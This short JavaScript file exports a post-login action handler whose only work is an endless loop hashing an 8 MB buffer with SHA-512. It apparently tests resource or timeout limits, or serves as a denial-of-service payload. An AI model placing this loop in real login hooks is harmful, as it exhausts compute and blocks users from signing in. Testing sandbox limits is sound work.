exports.onExecutePostLogin = async () => {
  const { createHash } = require('crypto');
  const block = Buffer.alloc(8 << 20, 1);
  for (;;) createHash('sha512').update(block).digest();
};
